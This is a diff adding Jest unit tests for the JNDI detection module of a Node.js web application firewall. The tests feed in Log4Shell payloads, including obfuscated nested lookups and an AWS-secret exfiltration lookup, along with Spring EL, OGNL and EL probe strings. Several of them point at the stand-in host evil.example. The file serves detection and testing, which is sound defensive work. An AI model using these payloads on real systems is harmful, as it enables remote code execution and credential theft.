@@ -0,0 +1,123 @@
+/**
+ * Unit tests for JNDI Module
+ */
+
+const request = require('supertest');
+const express = require('express');
+const waf = require('../../lib/index');
+const JNDIModule = require('../../lib/modules/jndi');
+const { createAnalysis, patternsFor } = require('../helpers');
+
+describe('JNDI Module', () => {
+  let jndiModule;
+
+  beforeEach(() => {
+    jndiModule = new JNDIModule({});
+  });
+
+  describe('Log4Shell', () => {
+    test('should detect JNDI lookups in headers', () => {
+      const result = jndiModule.analyze(createAnalysis({
+        headers: { 'user-agent': '${jndi:ldap://evil.example:1389/a}' }
+      }));
+
+      expect(result.module).toBe('jndi');
+      expect(patternsFor(result)).toEqual(['jndi-remote-lookup']);
+      expect(result.threats[0].location).toBe('REQUEST_HEADERS:user-agent');
+    });
+
+    test('should de-obfuscate nested lookups', () => {
+      const payloads = [
+        '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}',
+        '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}',
+        '${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//evil.example/a}',
+        '${${upper:j}${date:\'n\'}di:dns://evil.example}',
+        '%24%7Bjn${lower:D}i:ldap://evil.example/a%7D'
+      ];
+
+      payloads.forEach(payload => {
+        const result = jndiModule.analyze(createAnalysis({ query: { q: payload } }));
+
+        expect(patternsFor(result)).toEqual(['jndi-remote-lookup']);
+        expect(result.threats[0].description).toContain('(obfuscated)');
+      });
+    });
+
+    test('should keep JNDI lookups with default values', () => {
+      const result = jndiModule.analyze(createAnalysis({
+        body: { name: '${jndi:ldap://evil.example/a:-fallback}' }
+      }));
+
+      expect(patternsFor(result)).toEqual(['jndi-remote-lookup']);
+      expect(result.threats[0].location).toBe('REQUEST_BODY:name');
+    });
+
+    test('should detect data lookups used for exfiltration', () => {
+      const result = jndiModule.analyze(createAnalysis({
+        query: { q: 'x${env:AWS_SECRET_ACCESS_KEY}' }
+      }));
+
+      expect(patternsFor(result)).toEqual(['lookup-exfiltration']);
+      expect(result.score).toBe(3);
+    });
+  });
+
+  describe('Expression Languages', () => {
+    test('should detect Spring EL type references', () => {
+      const result = jndiModule.analyze(createAnalysis({
+        body: { template: '#{T(java.lang.Runtime).getRuntime().exec(\'id\')}' }
+      }));
+
+      expect(patternsFor(result)).toEqual(['spel-type-reference']);
+    });
+
+    test('should detect Spring EL bean and class access', () => {
+      const result = jndiModule.analyze(createAnalysis({
+        query: { q: '#{@environment.getProperty(\'db.password\')}' }
+      }));
+
+      expect(patternsFor(result)).toEqual(['spel-expression']);
+    });
+
+    test('should detect OGNL expressions', () => {
+      const result = jndiModule.analyze(createAnalysis({
+        headers: { 'content-type': '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd=\'id\')}' }
+      }));
+
+      expect(patternsFor(result)).toEqual(['ognl-expression']);
+    });
+
+    test('should detect expression language probes', () => {
+      const result = jndiModule.analyze(createAnalysis({
+        query: { a: '%{7*7}', b: '#{7*7}' }
+      }));
+
+      expect(patternsFor(result)).toEqual(['el-math-probe', 'el-math-probe']);
+    });
+  });
+
+  describe('Safe Requests', () => {
+    test('should allow ordinary text with braces and dollar signs', () => {
+      const result = jndiModule.analyze(createAnalysis({
+        query: { price: '$10', color: '#{fff}' },
+        body: { text: 'Use ${name} in templates, 100% {ok}', note: 'Java runtime is fast' }
+      }));
+
+      expect(result).toBeNull();
+    });
+
+    test('should block lookups through Express', async () => {
+      const app = express();
+      app.use(waf({
+        modules: ['jndi'],
+        threshold: 5,
+        adaptiveLearning: false,
+        anomalyThreshold: 1000 // Disable anomaly scoring for tests
+      }).middleware());
+      app.get('/search', (req, res) => res.json({ q: req.query.q }));
+
+      await request(app).get('/search?q=java').expect(200);
+      await request(app).get('/search').set('X-Api-Version', '${jndi:rmi://evil.example/a}').expect(403);
+    });
+  });
+});